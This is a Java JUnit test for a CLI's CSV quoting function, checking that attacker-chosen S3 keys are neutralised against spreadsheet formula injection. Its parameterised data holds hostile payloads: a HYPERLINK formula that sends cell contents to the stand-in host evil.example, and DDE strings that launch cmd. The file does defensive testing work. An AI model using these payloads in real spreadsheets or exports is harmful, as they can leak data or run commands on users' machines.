package io.bucketdigest.cli.output;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/** The CLI's CSV carries the same formula-injection guard as the digest attachment: S3 keys are attacker-chosen. */
class CsvTest {

    @ParameterizedTest(name = "{0}")
    @CsvSource(delimiter = '~', quoteCharacter = '`', textBlock = """
            =HYPERLINK("http://evil.example/?x="&A1;"click")  ~ `"'=HYPERLINK(""http://evil.example/?x=""&A1;""click"")"`
            +cmd|' /C calc'!A0                               ~ `'+cmd|' /C calc'!A0`
            @SUM(1+1)*cmd|' /C calc'!A0                      ~ `'@SUM(1+1)*cmd|' /C calc'!A0`
            -2+3+cmd|' /C calc'!A0                           ~ `'-2+3+cmd|' /C calc'!A0`
            photos/cat.jpg                                   ~ photos/cat.jpg
            -                                                ~ -
            -21                                              ~ -21
            1.5                                              ~ 1.5
            """)
    void quote_hostileAndOrdinaryValues_areNeutralisedOrLeftAlone(String value, String expected) {
        assertThat(Csv.quote(value)).isEqualTo(expected);
    }

    @org.junit.jupiter.api.Test
    void quote_tabOrCarriageReturnFirst_isNeutralisedAndQuoted() {
        assertThat(Csv.quote("\t=1+1")).isEqualTo("'\t=1+1");
        assertThat(Csv.quote("\r=1+1")).isEqualTo("\"'\r=1+1\"");
    }
}
